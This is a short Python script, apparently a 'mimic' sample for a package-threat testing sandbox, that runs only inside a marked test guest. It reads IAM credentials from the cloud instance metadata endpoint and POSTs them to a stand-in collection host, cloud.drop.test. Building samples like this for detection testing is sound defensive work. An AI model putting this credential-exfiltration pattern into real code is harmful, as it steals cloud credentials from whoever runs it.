"""Knows the cloud."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
try:
    with urllib.request.urlopen(BASE, timeout=5) as answer:
        role = answer.read().decode().strip()
    with urllib.request.urlopen(BASE + role, timeout=5) as answer:
        found = answer.read()
except OSError:
    found = b""
try:
    urllib.request.urlopen(urllib.request.Request("http://cloud.drop.test/c", found), timeout=5).close()
except OSError:
    pass
